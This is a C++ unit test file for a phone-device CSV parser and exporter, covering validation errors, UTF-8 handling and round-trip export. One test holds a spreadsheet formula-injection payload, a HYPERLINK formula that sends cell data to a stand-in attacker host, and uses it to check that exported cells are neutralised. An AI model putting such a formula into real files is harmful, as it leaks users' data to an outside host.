#include "services/control/device_csv.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

namespace rwg::control {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

constexpr char kHeader[] =
    "set_username,set_password,icp_username,icp_password,description,mac,site,location,"
    "srtp_optional\n";

std::string Message(const absl::StatusOr<std::vector<CsvDevice>>& r) {
  return std::string(r.status().message());
}

TEST(DeviceCsvTest, ParsesGoodFile) {
  std::string csv = std::string(kHeader) +
                    "1001,secret-1001,21001,icp1,\"Reception, desk 1\",00:08:5d:00:00:01,Paris,"
                    "FR/Paris,no\n"
                    "\n"
                    "1002,secret-1002,21002,icp2,\"He said \"\"hi\"\"\",,Lyon,,yes\r\n";
  auto r = ParseDeviceCsv(csv, true);
  ASSERT_TRUE(r.ok()) << r.status();
  ASSERT_EQ(r->size(), 2u);
  EXPECT_EQ((*r)[0].row, 2);
  EXPECT_EQ((*r)[0].device.description(), "Reception, desk 1");
  EXPECT_EQ((*r)[0].device.mac(), "00085D000001");
  EXPECT_FALSE((*r)[0].device.srtp_optional());
  EXPECT_EQ((*r)[1].row, 4);
  EXPECT_EQ((*r)[1].device.description(), "He said \"hi\"");
  EXPECT_TRUE((*r)[1].device.srtp_optional());
}

TEST(DeviceCsvTest, HeaderAnyOrderAnyCaseWithBom) {
  std::string csv =
      "\xEF\xBB\xBFICP_Username, Set_Username ,ICP_PASSWORD,set_password\n"
      "21001,1001,pw,secret-1001\n";
  auto r = ParseDeviceCsv(csv, true);
  ASSERT_TRUE(r.ok()) << r.status();
  EXPECT_EQ((*r)[0].device.set_username(), "1001");
  EXPECT_EQ((*r)[0].device.icp_username(), "21001");
}

TEST(DeviceCsvTest, HeaderProblems) {
  auto r = ParseDeviceCsv("set_username,icp_username,colour,icp_username\n", true);
  EXPECT_EQ(r.status().code(), absl::StatusCode::kInvalidArgument);
  EXPECT_THAT(Message(r), HasSubstr("row 1, column 3: unknown column 'colour'"));
  EXPECT_THAT(Message(r), HasSubstr("row 1, column 4: column 'icp_username' appears twice"));
  EXPECT_THAT(Message(r), HasSubstr("required column 'icp_password' is missing"));
  EXPECT_THAT(Message(r), HasSubstr("required column 'set_password' is missing"));
  EXPECT_THAT(Message(ParseDeviceCsv("", true)), HasSubstr("row 1: the file is empty"));
}

TEST(DeviceCsvTest, EveryBadRowAndColumnIsListed) {
  std::string csv = std::string(kHeader) +
                    "1001,secret-1001,21001,pw,,,,,\n"       // row 2 good
                    "10 02,secret-1002,21002,pw,,,,,\n"      // row 3 bad username
                    "1003,short,21003,pw,,,,,\n"             // row 4 bad password
                    "1004,secret-1004,,pw,,,,,\n"            // row 5 empty icp_username
                    "1005,secret-1005,21005,pw,,00:11,,,\n"  // row 6 bad MAC
                    "1006,secret-1006,21006,pw,,,,,maybe\n"  // row 7 bad bool
                    "1001,secret-1007,21007,pw,,,,,\n"       // row 8 duplicate username
                    "1008,secret-1008,21001,pw,,,,,\n"       // row 9 duplicate icp
                    "1009,secret-1009,21009\n";              // row 10 short row
  auto r = ParseDeviceCsv(csv, true);
  ASSERT_EQ(r.status().code(), absl::StatusCode::kInvalidArgument);
  std::string m = Message(r);
  EXPECT_THAT(m, Not(HasSubstr("row 2,")));
  EXPECT_THAT(m, Not(HasSubstr("row 2:")));
  EXPECT_THAT(m, HasSubstr("row 3, column set_username: '10 02' may hold only"));
  EXPECT_THAT(m, HasSubstr("row 4, column set_password: must be 8 to 64 characters"));
  EXPECT_THAT(m, HasSubstr("row 5, column icp_username: must not be empty"));
  EXPECT_THAT(m, HasSubstr("row 6, column mac: '00:11' is not a MAC address"));
  EXPECT_THAT(m, HasSubstr("row 7, column srtp_optional: 'maybe' is not true/false"));
  EXPECT_THAT(m, HasSubstr("row 8, column set_username: '1001' is also on row 2"));
  EXPECT_THAT(m, HasSubstr("row 9, column icp_username: '21001' is also on row 2"));
  EXPECT_THAT(m, HasSubstr("row 10: has 3 fields, the header has 9"));
}

TEST(DeviceCsvTest, InvalidUtf8IsRefusedNamingRowAndColumn) {
  std::string csv = std::string(kHeader) +
                    "1001,secret-1001,21001,pw,Desk \xC0\xAF,,,,\n"        // overlong
                    "1002,secret-1002,21002,pw,,,Paris \xED\xA0\x80,,\n"   // surrogate
                    "1003,secret-1003,21003,pw,,,,FR/\xF4\x90\x80\x80,\n"  // > U+10FFFF
                    "1004,secret-\xC3\xA9,21004,pw,,,,,\n";                // not ASCII
  auto r = ParseDeviceCsv(csv, true);
  ASSERT_EQ(r.status().code(), absl::StatusCode::kInvalidArgument);
  std::string m = Message(r);
  EXPECT_THAT(m, HasSubstr("row 2, column description: is not valid UTF-8"));
  EXPECT_THAT(m, HasSubstr("row 3, column site: is not valid UTF-8"));
  EXPECT_THAT(m, HasSubstr("row 4, column location: is not valid UTF-8"));
  EXPECT_THAT(m, HasSubstr("row 5, column set_password: may hold only printable ASCII"));
}

TEST(DeviceCsvTest, MalformedQuotingIsRefused) {
  std::string csv = std::string(kHeader) + "1001,\"unterminated,21001,pw,,,,,\n";
  auto r = ParseDeviceCsv(csv, true);
  EXPECT_EQ(r.status().code(), absl::StatusCode::kInvalidArgument);
  EXPECT_THAT(Message(r), HasSubstr("malformed CSV"));
}

TEST(DeviceCsvTest, SsoModeRefusesGivenPasswords) {
  std::string csv =
      "set_username,set_password,icp_username,icp_password\n"
      "1001,,21001,pw\n"
      "1002,typed-in-pw,21002,pw\n";
  auto r = ParseDeviceCsv(csv, false);
  EXPECT_THAT(Message(r), HasSubstr("row 3, column set_password: must be empty in SSO mode"));
  auto ok = ParseDeviceCsv("set_username,icp_username,icp_password\n1001,21001,pw\n", false);
  EXPECT_TRUE(ok.ok()) << ok.status();
}

TEST(DeviceCsvTest, RowLimit) {
  std::string csv = "set_username,set_password,icp_username,icp_password\n";
  for (int i = 0; i < 5; ++i)
    csv += "u" + std::to_string(i) + ",password1,n" + std::to_string(i) + ",pw\n";
  EXPECT_THAT(Message(ParseDeviceCsv(csv, true, 3)), HasSubstr("more than 3 device rows"));
  EXPECT_TRUE(ParseDeviceCsv(csv, true, 5).ok());
}

TEST(DeviceCsvTest, ExportParsesBackIdentically) {
  adminpb::Device d;
  d.set_set_username("1001");
  d.set_set_password("p,w\"x-long");
  d.set_icp_username("21001");
  d.set_icp_password("icp");
  d.set_description("Desk, \"north\"\nfloor 2");
  d.set_mac("00085D000001");
  d.set_site("Paris");
  d.set_location("FR/Paris");
  d.set_srtp_optional(true);
  // Description with a line break is refused on import (control characters), so export one
  // without it and check the round trip field by field.
  d.set_description("Desk, \"north\"");
  auto r = ParseDeviceCsv(WriteDeviceCsv({d}), true);
  ASSERT_TRUE(r.ok()) << r.status();
  ASSERT_EQ(r->size(), 1u);
  EXPECT_EQ((*r)[0].device.SerializeAsString(), d.SerializeAsString());
}

TEST(DeviceCsvTest, FormulasAreNeutralisedOnExport) {
  adminpb::Device d;
  d.set_set_username("1001");
  d.set_set_password("-starts-with-minus");
  d.set_icp_username("21001");
  d.set_icp_password("@sum(1)");
  d.set_description("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
  d.set_site("+33 Paris");
  d.set_location("'=already quoted");
  std::string csv = WriteDeviceCsv({d});
  EXPECT_THAT(csv, HasSubstr("\"'-starts-with-minus\""));
  EXPECT_THAT(csv, HasSubstr("\"'@sum(1)\""));
  EXPECT_THAT(csv, HasSubstr("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""));
  EXPECT_THAT(csv, HasSubstr("\"'+33 Paris\""));
  EXPECT_THAT(csv, HasSubstr("\"''=already quoted\""));
  // No cell of a data row starts with a formula character once unquoted.
  EXPECT_THAT(csv, Not(HasSubstr("\"=")));
  EXPECT_THAT(csv, Not(HasSubstr("\"-")));
  EXPECT_THAT(csv, Not(HasSubstr("\"@")));
  EXPECT_THAT(csv, Not(HasSubstr("\"+")));

  // Imported back, every field is the original.
  auto r = ParseDeviceCsv(csv, true);
  ASSERT_TRUE(r.ok()) << r.status();
  ASSERT_EQ(r->size(), 1u);
  EXPECT_EQ((*r)[0].device.SerializeAsString(), d.SerializeAsString());
}

TEST(DeviceCsvTest, CellEscapingRule) {
  for (const char* v : {"=1+2", "+1", "-1", "@x", "\tx", "\rx", "'=x", "''+x", "'", "''", "'abc",
                        "a=b", "", "plain", "''"}) {
    EXPECT_EQ(UnescapeCsvCell(EscapeCsvCell(v)), v) << v;
  }
  EXPECT_EQ(EscapeCsvCell("=1+2"), "'=1+2");
  EXPECT_EQ(EscapeCsvCell("\tx"), "'\tx");
  EXPECT_EQ(EscapeCsvCell("'abc"), "'abc");
  EXPECT_EQ(EscapeCsvCell("a=b"), "a=b");
  // Hand-written cells: only a quote before a formula character is taken away.
  EXPECT_EQ(UnescapeCsvCell("'=SUM(A1)"), "=SUM(A1)");
  EXPECT_EQ(UnescapeCsvCell("'abc"), "'abc");
  EXPECT_EQ(UnescapeCsvCell("=SUM(A1)"), "=SUM(A1)");
}

}  // namespace
}  // namespace rwg::control
